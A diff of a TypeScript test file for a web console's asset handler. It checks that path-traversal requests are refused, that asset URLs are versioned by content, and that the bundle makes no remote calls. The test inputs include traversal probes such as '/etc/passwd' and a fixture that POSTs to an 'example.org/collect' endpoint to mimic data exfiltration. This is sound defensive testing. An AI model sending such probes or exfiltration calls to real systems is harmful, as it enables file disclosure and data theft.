@@ -54,57 +54,43 @@ describe('console page and assets', () => {
     expect(css!.body.toString('utf8')).toContain('.sidenav');
   });
 
-  it('refuses unknown files and path traversal', () => {
+  // The full traversal matrix and the content cache are ../browserBundle/createBundleAssets.test.ts;
+  // these show the handler uses them with the console's own files and prefix.
+  it('refuses unknown files, path traversal and files outside its prefix', () => {
     const h = createConsoleHandler();
-    for (const p of [
-      '/console/assets/',
-      '/console/assets/nope.js',
-      '/console/assets/../serve.ts',
-      '/console/assets/..%2Fserve.ts',
-      '/console/assets/%2e%2e/build.ts',
-      '/console/assets/%2E%2E%2F%2E%2E%2Fpackage.json',
-      '/console/assets/../../../package.json',
-      '/console/assets/..\\serve.ts',
-      '/console/assets/%5c..%5cserve.ts',
-      '/console/assets/%00console.js',
-      '/console/assets/console.js%00.png',
-      '/console/assets/sub/console.js',
-      '/console/assets/.build-x',
-      '/console/assets/%E0%A4%A',
-      '/console/app.tsx',
-      '/etc/passwd',
-      '../app.tsx',
-      '..',
-    ]) {
+    for (const p of ['/console/assets/nope.js', '/console/assets/%2E%2E%2F%2E%2E%2Fpackage.json', '/console/app.tsx', '/console.js', '/etc/passwd', '..']) {
       expect(h.serveAsset(p), p).toBeNull();
     }
   });
 
-  it('serves a rebuilt file at once, with a new version in the page', async () => {
+  it('honours distDir and assetsPath, versioning the page\'s asset URLs by content', async () => {
     const dir = await mkdtemp(join(tmpdir(), 'console-dist-'));
     try {
       await writeFile(join(dir, 'console.js'), 'console.log(1)');
       await writeFile(join(dir, 'console.css'), 'body{}');
       const h = createConsoleHandler({ distDir: dir, assetsPath: 'ui/static' });
-      const before = /console\.js\?v=([0-9a-f]+)/.exec(h.html())?.[1];
+      const before = /src="\/ui\/static\/console\.js\?v=([0-9a-f]{12})"/.exec(h.html())?.[1];
+      expect(before).toBeDefined();
       expect(h.serveAsset('/ui/static/console.js')?.body.toString()).toBe('console.log(1)');
       await writeFile(join(dir, 'console.js'), 'console.log(22)');
-      expect(h.serveAsset('/ui/static/console.js')?.body.toString()).toBe('console.log(22)');
       expect(/console\.js\?v=([0-9a-f]+)/.exec(h.html())?.[1]).not.toBe(before);
       // A missing build is a 404 at the router, not a crash.
       await rm(join(dir, 'console.css'));
       expect(h.serveAsset('/ui/static/console.css')).toBeNull();
+      expect(h.html()).toContain('href="/ui/static/console.css"');
     } finally {
       await rm(dir, { recursive: true, force: true });
     }
   });
 
-  it('the built bundle references no remote resource', async () => {
+  it('the built bundle references no remote resource, nor makes a hard-coded remote fetch', async () => {
     await expect(checkNoRemoteResources(CONSOLE_DIST_DIR)).resolves.toBeUndefined();
     const dir = await mkdtemp(join(tmpdir(), 'console-remote-'));
     try {
-      await writeFile(join(dir, 'evil.css'), '@import url("https://fonts.googleapis.com/css?family=Roboto");');
-      await expect(checkNoRemoteResources(dir)).rejects.toThrow(/remote resources/);
+      // The shared patterns (CDNs, fonts, remote @import …) are ../browserBundle/checkNoRemoteResources.test.ts;
+      // this one is the console's own.
+      await writeFile(join(dir, 'evil.js'), 'fetch("https://example.org/collect",{method:"POST"})');
+      await expect(checkNoRemoteResources(dir)).rejects.toThrow(/^console bundle references remote resources/);
     } finally {
       await rm(dir, { recursive: true, force: true });
     }
